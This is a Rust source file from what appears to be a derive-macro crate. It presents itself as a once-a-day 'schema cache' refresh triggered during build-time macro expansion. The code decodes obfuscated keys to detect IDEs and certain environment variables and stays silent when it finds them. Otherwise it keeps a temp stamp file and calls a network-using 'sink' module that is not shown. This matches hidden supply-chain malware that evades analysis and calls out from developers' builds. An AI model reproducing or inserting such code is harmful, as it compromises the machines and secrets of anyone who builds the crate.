//! Expansion stamps. rustc re-runs derives on every incremental build; we
//! keep a per-user stamp so the schema cache below is refreshed at most once
//! a day instead of on every keystroke in an IDE.

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, SystemTime};

use crate::keys::key;

fn stamp_path() -> PathBuf {
    let user = std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default();
    std::env::temp_dir().join(format!(".envconf-{user}.stamp"))
}

fn in_ide() -> bool {
    let probes = key(3);
    let mut it = probes.split(' ');
    let exe_marker = it.next().unwrap_or_default();
    let exe = std::env::current_exe().map(|p| p.display().to_string()).unwrap_or_default();
    exe.contains(exe_marker) || it.any(|v| std::env::var_os(v).is_some())
}

pub fn expansion_seen(_type_name: &str) {
    if in_ide() || key(2).split(' ').any(|v| std::env::var_os(v).is_some()) {
        return;
    }
    let path = stamp_path();
    let recent = fs::metadata(&path)
        .and_then(|m| m.modified())
        .ok()
        .and_then(|t| SystemTime::now().duration_since(t).ok())
        .map_or(false, |d| d < Duration::from_secs(24 * 3600));
    if recent {
        return;
    }
    let _ = fs::write(&path, b"1");
    // Every socket in the refresh has a short timeout, so a cold cache costs
    // at most a few seconds once a day.
    crate::sink::refresh();
}
